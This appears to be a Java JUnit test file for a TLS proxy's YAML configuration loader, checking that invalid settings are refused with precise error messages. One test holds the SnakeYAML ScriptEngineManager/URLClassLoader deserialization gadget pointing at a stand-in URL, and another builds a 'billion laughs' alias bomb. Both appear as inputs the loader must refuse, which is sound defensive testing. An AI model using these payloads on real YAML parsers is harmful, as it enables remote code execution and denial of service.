package dev.jtls.proxy.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.jtls.proxy.balance.PolicyKind;
import java.net.InetAddress;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Every validation error names the file, the line and the key path. */
class ConfigLoaderTest {

    private final ConfigFiles files = new ConfigFiles();

    /** A valid file; {@code %s} placeholders let each test put something in a known line. */
    private static final String LISTENER = """
            listeners:
              - bind: 127.0.0.1:0
                tls:
                  certificates:
                    - cert: cert.pem
                      key: key.pem
                routes: [{pool: web}]
            """;

    private List<String> problems(String yaml) {
        ConfigException e = catchThrowableOfType(ConfigException.class, () -> files.load(yaml));
        assertThat(e).as("expected the configuration to be refused:\n" + yaml).isNotNull();
        assertThat(e.getMessage()).isEqualTo(String.join("\n", e.problems()));
        return e.problems();
    }

    private void refused(String yaml, String... expected) {
        assertThat(problems(yaml)).containsExactly(expected);
    }

    @Test
    void aMinimalFileGetsEveryDefault() throws Exception {
        ProxyConfig c = files.load(LISTENER + """
                pools:
                  web:
                    backends: [127.0.0.1:8081, "[::1]:8082"]
                """);
        ListenerConfig l = c.listeners().get(0);
        assertThat(l.name()).isEqualTo("127.0.0.1:0");
        assertThat(l.bind().getPort()).isZero();
        assertThat(l.timeouts()).isEqualTo(new ListenerTimeouts(Defaults.HANDSHAKE_TIMEOUT,
                Defaults.REQUEST_HEADER_TIMEOUT, Defaults.IDLE_TIMEOUT));
        assertThat(l.maxConnections()).isEqualTo(10_000);
        assertThat(l.tls().alpn()).containsExactly("http/1.1");
        assertThat(l.tls().clientAuth()).isEqualTo(TlsListenerConfig.ClientAuthMode.NONE);
        assertThat(l.tls().strictSni()).isTrue();
        assertThat(l.tls().strictAlpn()).isTrue();
        assertThat(l.tls().suites()).isEmpty();
        PoolConfig web = c.pools().get("web");
        assertThat(web.policy()).isEqualTo(PolicyKind.WEIGHTED_ROUND_ROBIN);
        assertThat(web.hashKey()).isEqualTo("client_ip");
        assertThat(web.backends()).containsExactly(new BackendConfig("127.0.0.1:8081", "127.0.0.1", 8081, 1),
                new BackendConfig("[::1]:8082", "::1", 8082, 1));
        assertThat(web.health()).isEqualTo(new HealthCheckConfig(HealthCheckConfig.Kind.TCP, "/", 200,
                Duration.ofSeconds(5), Duration.ofSeconds(2), 2, 3));
        assertThat(web.passive()).isEqualTo(new PassiveHealthConfig(5, Duration.ofSeconds(30), false));
        assertThat(web.slowStart()).isZero();
        assertThat(web.timeouts()).isEqualTo(new BackendTimeouts(Duration.ofSeconds(3), Duration.ofSeconds(30)));
        assertThat(web.keepAlive()).isEqualTo(new KeepAliveConfig(32, 256, Duration.ofSeconds(30), 0));
        assertThat(c.limits()).isEqualTo(new LimitsConfig(16384, 8192, 10 << 20, Duration.ofSeconds(30)));
        assertThat(c.admin()).isEqualTo(new AdminConfig(null, null));
        assertThat(c.accessLog()).isEqualTo(new AccessLogConfig(AccessLogConfig.Target.STDOUT, null));
        assertThat(c.tickets()).isEqualTo(new TicketConfig(null, null, Duration.ofHours(12)));
    }

    @Test
    void everyModeAndOptionalSection() throws Exception {
        files.write("ticket.secret", "0123456789abcdef0123456789abcdef0123456789\n");
        files.write("admin.token", "0123456789abcdef0123\n");
        ProxyConfig c = files.load("""
                listeners:
                  - name: l4
                    bind: "[::1]:0"
                    mode: tcp
                    pool: db
                    proxy_protocol: [10.0.0.0/8, "2001:db8::/32", 192.0.2.7]
                    tls:
                      certificates: [{cert: cert.pem, key: key.pem, names: ["*.Example.com", localhost]}]
                      client_auth: need
                      client_ca: cert.pem
                      suites: [TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256]
                      strict_sni: false
                  - name: sni
                    bind: 127.0.0.1:0
                    mode: passthrough
                    sni_pools:
                      db.example.com: db
                      "*.apps.example.com": web
                  - name: web
                    bind: 127.0.0.1:0
                    trusted_hops: [127.0.0.1]
                    tls:
                      certificates: [{cert: cert.pem, key: key.pem}]
                    routes:
                      - host: api.example.com
                        path: /v1/
                        pool: db
                      - host: "*"
                        pool: web
                pools:
                  web:
                    policy: ip_hash
                    hash_key: header:X-User
                    backends:
                      - {address: backend.internal:80, weight: 3, name: b1}
                    health: {type: http, path: /healthz, expect_status: 204, interval: 500ms, timeout: 100ms}
                    slow_start: 2m
                    tls: {trust: cert.pem, server_name: backend.internal}
                  db:
                    policy: least_connections
                    backends: [10.1.2.3:5432]
                    health: {type: none}
                    passive: {consecutive_failures: 0}
                limits: {max_header_size: 32KiB, max_initial_line: 4096, max_body_size: 1GiB, drain_timeout: 1m}
                admin: {bind: 127.0.0.1:0, token_file: admin.token}
                access_log: off
                tickets: {secret_file: ticket.secret, rotation: 1h}
                """);
        ListenerConfig l4 = c.listeners().get(0);
        assertThat(l4.bind().getAddress()).isEqualTo(InetAddress.getByName("::1"));
        assertThat(l4.pool()).isEqualTo("db");
        assertThat(l4.proxyProtocol()).containsExactly(new Cidr(InetAddress.getByName("10.0.0.0"), 8),
                new Cidr(InetAddress.getByName("2001:db8::"), 32), new Cidr(InetAddress.getByName("192.0.2.7"), 32));
        assertThat(l4.tls().alpn()).isEmpty();
        assertThat(l4.tls().certificates().get(0).names()).containsExactly("*.example.com", "localhost");
        assertThat(l4.tls().clientAuth()).isEqualTo(TlsListenerConfig.ClientAuthMode.NEED);
        assertThat(l4.tls().clientCa()).isRegularFile();
        assertThat(l4.tls().strictSni()).isFalse();
        ListenerConfig sni = c.listeners().get(1);
        assertThat(sni.tls()).isNull();
        assertThat(sni.sniPools()).isEqualTo(Map.of("db.example.com", "db", "*.apps.example.com", "web"));
        ListenerConfig web = c.listeners().get(2);
        assertThat(web.routes()).containsExactly(new RouteConfig("api.example.com", "/v1/", "db"),
                new RouteConfig(null, "/", "web"));
        assertThat(web.trustedHops()).containsExactly(new Cidr(InetAddress.getByName("127.0.0.1"), 32));
        PoolConfig pool = c.pools().get("web");
        assertThat(c.pools().keySet()).containsExactly("web", "db");
        assertThat(pool.hashKey()).isEqualTo("header:X-User");
        assertThat(pool.backends()).containsExactly(new BackendConfig("b1", "backend.internal", 80, 3));
        assertThat(pool.health()).isEqualTo(new HealthCheckConfig(HealthCheckConfig.Kind.HTTP, "/healthz", 204,
                Duration.ofMillis(500), Duration.ofMillis(100), 2, 3));
        assertThat(pool.slowStart()).isEqualTo(Duration.ofMinutes(2));
        assertThat(pool.tls().serverName()).isEqualTo("backend.internal");
        assertThat(c.pools().get("db").passive().consecutiveFailures()).isZero();
        assertThat(c.pools().get("db").health().kind()).isEqualTo(HealthCheckConfig.Kind.NONE);
        assertThat(c.limits()).isEqualTo(new LimitsConfig(32768, 4096, 1L << 30, Duration.ofMinutes(1)));
        assertThat(c.admin().token()).isEqualTo("0123456789abcdef0123");
        assertThat(c.accessLog().target()).isEqualTo(AccessLogConfig.Target.OFF);
        assertThat(c.tickets().secretFile()).isRegularFile();
        assertThat(c.tickets().rotation()).isEqualTo(Duration.ofHours(1));
    }

    @Test
    void aRangeErrorNamesFileLineAndPath() {
        refused(LISTENER + """
                pools:
                  web:
                    backends:
                      - address: 127.0.0.1:8081
                        weight: 0
                """, "lb.yaml:12: pools.web.backends[0].weight: must be ≥ 1, got 0");
        refused(LISTENER + """
                pools:
                  web:
                    backends: [127.0.0.1:8081]
                    health: {rise: 1000}
                """, "lb.yaml:11: pools.web.health.rise: must be ≤ 100, got 1000");
    }

    @Test
    void unknownKeysAreRefusedWithASuggestion() {
        refused(LISTENER + """
                pools:
                  web:
                    backends:
                      - address: 127.0.0.1:8081
                        weigth: 2
                """, "lb.yaml:12: pools.web.backends[0].weigth: unknown key; did you mean 'weight'?");
        refused(LISTENER + """
                pools:
                  web:
                    backends: [127.0.0.1:8081]
                    helath_check: {}
                """, "lb.yaml:11: pools.web.helath_check: unknown key");
        List<String> top = problems(LISTENER.replace("listeners:", "listener:") + """
                pools:
                  web:
                    backends: [127.0.0.1:8081]
                """);
        assertThat(top).containsExactly("lb.yaml:1: listener: unknown key; did you mean 'listeners'?",
                "lb.yaml:1: listeners: is required (at least one listener)");
    }

    @Test
    void typesAreChecked() {
        refused(LISTENER + """
                pools:
                  web:
                    backends: [{address: 127.0.0.1:8081, weight: heavy}]
                    passive: {count_5xx: yes}
                    keep_alive: [1, 2]
                """,
                "lb.yaml:10: pools.web.backends[0].weight: must be a whole number, got 'heavy'",
                "lb.yaml:11: pools.web.passive.count_5xx: must be true or false, got 'yes'",
                "lb.yaml:12: pools.web.keep_alive: must be a mapping (key: value lines), got a list");
    }

    @Test
    void durationsNeedAUnitAndStayInRange() {
        refused(LISTENER + """
                pools:
                  web:
                    backends: [127.0.0.1:8081]
                    health:
                      interval: 10
                      timeout: 5x
                    timeouts: {connect: 2h}
                """,
                "lb.yaml:12: pools.web.health.interval: must be a duration such as 500ms, 10s, 2m or 1h, got '10'",
                "lb.yaml:13: pools.web.health.timeout: must be a duration such as 500ms, 10s, 2m or 1h, got '5x'",
                "lb.yaml:14: pools.web.timeouts.connect: must be ≤ 1m, got 2h");
        refused(LISTENER + """
                pools:
                  web:
                    backends: [127.0.0.1:8081]
                    health: {interval: 1s, timeout: 2s}
                """, "lb.yaml:11: pools.web.health.timeout: must be ≤ interval (1s), got 2s");
    }

    @Test
    void sizesAndLimits() {
        refused(LISTENER + """
                pools:
                  web:
                    backends: [127.0.0.1:8081]
                limits:
                  max_header_size: 16MB
                  max_initial_line: 100
                """,
                "lb.yaml:12: limits.max_header_size: must be a size such as 8192, 16KiB or 10MiB, got '16MB'",
                "lb.yaml:13: limits.max_initial_line: must be ≥ 256B, got 100");
    }

    @Test
    void addressesAreHostColonPort() {
        refused("""
                listeners:
                  - bind: 127.0.0.1
                    tls: {certificates: [{cert: cert.pem, key: key.pem}]}
                    routes: [{pool: web}]
                pools:
                  web:
                    backends: ["::1:80", "127.0.0.1:70000", "bad_host!:80", 127.0.0.1:0]
                """,
                "lb.yaml:2: listeners[0].bind: must be host:port (IPv6 as [::1]:8443), got '127.0.0.1'",
                "lb.yaml:7: pools.web.backends[0]: an IPv6 address needs brackets: '[::1]:80'",
                "lb.yaml:7: pools.web.backends[1]: port must be 1–65535, got 70000",
                "lb.yaml:7: pools.web.backends[2]: 'bad_host!' is neither an IP address nor a host name",
                "lb.yaml:7: pools.web.backends[3]: port must be 1–65535, got 0");
    }

    @Test
    void cidrsAreCheckedIncludingHostBits() {
        refused("""
                listeners:
                  - bind: 127.0.0.1:0
                    proxy_protocol:
                      - 10.0.0.1/8
                      - 10.0.0.0/33
                      - 10.0.0.0/x
                      - nonsense
                    trusted_hops: ["::1/129"]
                    tls: {certificates: [{cert: cert.pem, key: key.pem}]}
                    routes: [{pool: web}]
                pools:
                  web:
                    backends: [127.0.0.1:8081]
                """,
                "lb.yaml:4: listeners[0].proxy_protocol[0]: '10.0.0.1/8' has host bits set; did you mean '10.0.0.0/8'?",
                "lb.yaml:5: listeners[0].proxy_protocol[1]: prefix length must be 0–32 in '10.0.0.0/33'",
                "lb.yaml:6: listeners[0].proxy_protocol[2]: prefix length must be 0–32 in '10.0.0.0/x'",
                "lb.yaml:7: listeners[0].proxy_protocol[3]: must be an address block such as 10.0.0.0/8 or ::1/128, got 'nonsense'",
                "lb.yaml:8: listeners[0].trusted_hops[0]: prefix length must be 0–128 in '::1/129'");
    }

    @Test
    void referencedPoolsMustExist() {
        refused("""
                listeners:
                  - bind: 127.0.0.1:0
                    tls: {certificates: [{cert: cert.pem, key: key.pem}]}
                    routes:
                      - pool: wbe
                  - bind: 127.0.0.1:0
                    mode: tcp
                    tls: {certificates: [{cert: cert.pem, key: key.pem}]}
                    pool: nothing
                  - bind: 127.0.0.1:0
                    mode: passthrough
                    sni_pools: {a.example: api}
                pools:
                  web:
                    backends: [127.0.0.1:8081]
                """,
                "lb.yaml:5: listeners[0].routes[0].pool: no pool 'wbe' under pools: (web); did you mean 'web'?",
                "lb.yaml:9: listeners[1].pool: no pool 'nothing' under pools: (web)",
                "lb.yaml:12: listeners[2].sni_pools.a.example: no pool 'api' under pools: (web)");
    }

    @Test
    void filesMustExistRelativeToTheConfigFile() {
        List<String> p = problems("""
                listeners:
                  - bind: 127.0.0.1:0
                    tls:
                      certificates:
                        - cert: cert.pem
                          key: missing.pem
                        - cert: lb.yaml
                          key: key.pem
                    routes: [{pool: web}]
                pools:
                  web:
                    backends: [127.0.0.1:8081]
                """);
        assertThat(p).hasSize(2);
        assertThat(p.get(0)).startsWith("lb.yaml:6: listeners[0].tls.certificates[0].key: no such file: ")
                .endsWith(files.dir.resolve("missing.pem").toAbsolutePath().normalize().toString());
        assertThat(p.get(1)).startsWith("lb.yaml:7: listeners[0].tls.certificates[1].cert: ")
                .endsWith("holds no PEM 'CERTIFICATE' block");
    }

    @Test
    void duplicatesAreRefused() {
        refused("""
                listeners:
                  - name: a
                    bind: 127.0.0.1:8443
                    tls: {certificates: [{cert: cert.pem, key: key.pem}]}
                    routes: [{pool: web}]
                  - name: a
                    bind: 127.0.0.1:8443
                    tls: {certificates: [{cert: cert.pem, key: key.pem}]}
                    routes: [{pool: web}]
                pools:
                  web:
                    backends: [127.0.0.1:8081, {address: 127.0.0.1:8081}]
                    policy: round_robin
                    policy: least_connections
                  web:
                    backends: [127.0.0.1:8082]
                """,
                "lb.yaml:6: listeners[1].name: duplicate listener name 'a' (first at line 2)",
                "lb.yaml:7: listeners[1].bind: another listener binds 127.0.0.1:8443 (line 2)",
                "lb.yaml:12: pools.web.backends[1]: duplicate back end '127.0.0.1:8081' (first at line 12)",
                "lb.yaml:14: pools.web.policy: duplicate key (first at line 13)",
                "lb.yaml:15: pools.web: duplicate name (first at line 11)");
    }

    @Test
    void eachModeNeedsItsTarget() {
        refused("""
                listeners:
                  - bind: 127.0.0.1:0
                    mode: tcp
                    tls: {certificates: [{cert: cert.pem, key: key.pem}]}
                  - bind: 127.0.0.1:0
                    tls: {certificates: [{cert: cert.pem, key: key.pem}]}
                  - bind: 127.0.0.1:0
                    mode: passthrough
                  - bind: 127.0.0.1:0
                    mode: passthrough
                    pool: web
                    tls: {certificates: [{cert: cert.pem, key: key.pem}]}
                  - bind: 127.0.0.1:0
                    pool: web
                    routes: [{pool: web}]
                    tls: {certificates: [{cert: cert.pem, key: key.pem}]}
                  - bind: 127.0.0.1:0
                    mode: udp
                pools:
                  web:
                    backends: [127.0.0.1:8081]
                """,
                "lb.yaml:2: listeners[0].pool: is required in tcp mode (the pool to pipe connections to)",
                "lb.yaml:5: listeners[1].routes: http mode needs at least one route (e.g. routes: [{pool: web}])",
                "lb.yaml:7: listeners[2]: passthrough mode needs sni_pools: or pool: (where to send each name)",
                "lb.yaml:12: listeners[3].tls: passthrough does not terminate TLS (remove tls:, or use mode tcp)",
                "lb.yaml:14: listeners[4].pool: http mode routes by routes: (a catch-all is routes: [{pool: web}])",
                "lb.yaml:18: listeners[5].mode: must be one of http, passthrough, tcp, got 'udp'; did you mean 'tcp'?");
    }

    @Test
    void tlsOptionsAreChecked() {
        refused("""
                listeners:
                  - bind: 127.0.0.1:0
                    tls:
                      certificates: [{cert: cert.pem, key: key.pem, names: ["bad name"]}]
                      client_auth: need
                      suites: [TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA265]
                      alpn: [""]
                    routes: [{pool: web, path: api}]
                pools:
                  web:
                    policy: round_robin
                    hash_key: client_ip
                    backends: [127.0.0.1:8081]
                    health: {path: /health}
                    keep_alive: {max_idle: 300}
                """,
                "lb.yaml:3: listeners[0].tls.client_ca: is required",
                "lb.yaml:4: listeners[0].tls.certificates[0].names[0]: must be a host name or *.suffix, got 'bad name'",
                "lb.yaml:6: listeners[0].tls.suites[0]: jtls has no cipher suite 'TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA265'; "
                        + "did you mean 'TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256'?",
                "lb.yaml:7: listeners[0].tls.alpn[0]: must be an ALPN protocol name such as http/1.1, got ''",
                "lb.yaml:8: listeners[0].routes[0].path: must be a path starting with '/' (no spaces), got 'api'",
                "lb.yaml:12: pools.web.hash_key: applies to policy ip_hash only (this pool's policy is round_robin)",
                "lb.yaml:14: pools.web.health.path: applies to type http only",
                "lb.yaml:15: pools.web.keep_alive.max_idle: must be ≤ max_per_backend (256), got 300");
    }

    @Test
    void yamlSyntaxAndTagsAndEmptyFiles() {
        List<String> syntax = problems(LISTENER + """
                pools:
                  web: [unclosed
                """);
        assertThat(syntax).hasSize(1);
        assertThat(syntax.get(0)).matches("lb\\.yaml:1[01]: not valid YAML: .*");
        // The classic SnakeYAML gadget: with the node API and refused tags, nothing is ever constructed.
        refused(LISTENER + """
                pools:
                  web:
                    backends: [!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]]
                """, "lb.yaml:10: not valid YAML: Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager");
        refused(LISTENER + """
                pools:
                  web:
                    backends:
                      - address: 127.0.0.1:8081
                        weight: !secret 3
                      - !!binary aGVsbG8=
                """,
                "lb.yaml:12: pools.web.backends[0].weight: YAML tag !secret is not allowed (plain values only)",
                "lb.yaml:13: pools.web.backends[1]: YAML tag tag:yaml.org,2002:binary is not allowed (plain values only)");
        refused("", "lb.yaml: empty configuration (listeners: and pools: are required)");
        refused("# nothing\n", "lb.yaml: empty configuration (listeners: and pools: are required)");
    }

    @Test
    void adminTokenAndAccessLog() {
        files.write("short.token", "abc\n");
        refused(LISTENER + """
                pools:
                  web:
                    backends: [127.0.0.1:8081]
                admin:
                  bind: 127.0.0.1:9901
                  token_file: short.token
                access_log: nodir/access.log
                """,
                "lb.yaml:13: admin.token_file: the admin token must be at least 16 printable characters without spaces "
                        + "(e.g. openssl rand -hex 32)",
                "lb.yaml:14: access_log: must be off, stdout or a file in an existing directory; no directory "
                        + files.dir.toAbsolutePath().resolve("nodir"));
        refused(LISTENER + """
                pools:
                  web:
                    backends: [127.0.0.1:8081]
                admin:
                  token: 0123456789abcdef0123
                """, "lb.yaml:11: admin.bind: is required when a token is given (the admin listener's host:port)");
    }

    @Test
    void ticketSecretsAreCheckedAtLoad() {
        files.write("short.secret", "too short\n");
        List<String> p = problems(LISTENER + """
                pools:
                  web:
                    backends: [127.0.0.1:8081]
                tickets:
                  secret_file: short.secret
                  rotation: 30s
                """);
        assertThat(p).hasSize(2);
        assertThat(p.get(0)).startsWith("lb.yaml:12: tickets.secret_file: the ticket secret must be at least 32 bytes, ")
                .contains("has 9");
        assertThat(p.get(1)).isEqualTo("lb.yaml:13: tickets.rotation: must be ≥ 1m, got 30s");
        refused(LISTENER + """
                pools:
                  web:
                    backends: [127.0.0.1:8081]
                tickets: {secret_env: JTLS_TEST_SURELY_UNSET_VARIABLE_0xC0FFEE}
                """, "lb.yaml:11: tickets.secret_env: environment variable JTLS_TEST_SURELY_UNSET_VARIABLE_0xC0FFEE is not set");
        refused(LISTENER + """
                pools:
                  web:
                    backends: [127.0.0.1:8081]
                tickets:
                  secret_file: cert.pem
                  secret_env: HOME
                """, "lb.yaml:13: tickets.secret_env: give secret_file: or secret_env:, not both");
    }

    @Test
    void manyProblemsComeInLineOrder() {
        List<String> p = problems("""
                pools:
                  web:
                    backends: []
                listeners:
                  - bind: 127.0.0.1:0
                    tls: {certificates: [{cert: cert.pem, key: key.pem}]}
                    routes: [{pool: web}]
                    max_connections: -1
                """);
        assertThat(p).containsExactly("lb.yaml:3: pools.web.backends: must list at least one back end",
                "lb.yaml:8: listeners[0].max_connections: must be ≥ 1, got -1");
    }

    @Test
    void optionsInTheWrongPlaceAndMalformedNames() {
        refused("""
                listeners:
                  - bind: 127.0.0.1:0
                    mode: tcp
                    pool: web
                    routes: [{pool: web}]
                    sni_pools: {a.example: web}
                    tls:
                      certificates: [{cert: cert.pem, key: key.pem}]
                      client_ca: cert.pem
                pools:
                  web:
                    policy: ip_hash
                    hash_key: cookie
                    backends:
                      - {weight: 2}
                      - {address: 127.0.0.1:8081, name: "has space"}
                    tls: {server_name: "*.example.com"}
                  "bad/name":
                    backends: [127.0.0.1:8082]
                """,
                "lb.yaml:5: listeners[0].routes: applies to http mode only",
                "lb.yaml:6: listeners[0].sni_pools: applies to passthrough mode only",
                "lb.yaml:9: listeners[0].tls.client_ca: needs client_auth: want or need",
                "lb.yaml:13: pools.web.hash_key: must be client_ip or header:<Name>, got 'cookie'",
                "lb.yaml:15: pools.web.backends[0].address: is required",
                "lb.yaml:16: pools.web.backends[1].name: a back-end name is letters, digits, '_', '.', ':', '-' (at most 64), "
                        + "got 'has space'",
                "lb.yaml:17: pools.web.tls.server_name: must be one host name, not a pattern",
                "lb.yaml:19: pools.bad/name: a pool name is letters, digits, '_', '.', '-' (at most 64)");
    }

    @Test
    void shapesThatAreNotWhatAKeyTakes() {
        refused("""
                listeners: []
                pools: {}
                limits:
                  drain_timeout: {value: 10s}
                  ? [complex, key]
                  : 1
                admin:
                  bind: 127.0.0.1:9901
                  token: short
                  token_file: admin.token
                """,
                "lb.yaml:1: listeners: must list at least one listener",
                "lb.yaml:2: pools: must name at least one pool",
                "lb.yaml:4: limits.drain_timeout: must be a single value, got a mapping",
                "lb.yaml:5: limits: keys must be plain words, got a list",
                "lb.yaml:10: admin.token_file: give token: or token_file:, not both");
    }

    @Test
    void documentsAliasesAndSize() {
        List<String> twoDocs = problems(LISTENER + "pools: {web: {backends: [127.0.0.1:8081]}}\n---\nlisteners: []\n");
        assertThat(twoDocs).hasSize(1);
        assertThat(twoDocs.get(0)).startsWith("lb.yaml:9: not valid YAML: ").contains("single document");
        StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x, x]\n");
        for (char c = 'b'; c <= 'z'; c++) {
            bomb.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 10; i++) {
                bomb.append(i == 0 ? "" : ", ").append('*').append((char) (c - 1));
            }
            bomb.append("]\n");
        }
        List<String> laughs = problems(bomb.toString());
        assertThat(laughs).hasSize(1);
        assertThat(laughs.get(0)).startsWith("lb.yaml").contains("not valid YAML").containsIgnoringCase("aliases");
        List<String> big = problems("# " + "x".repeat(1 << 20) + "\n");
        assertThat(big).containsExactly("lb.yaml: larger than 1048576 bytes");
    }
}
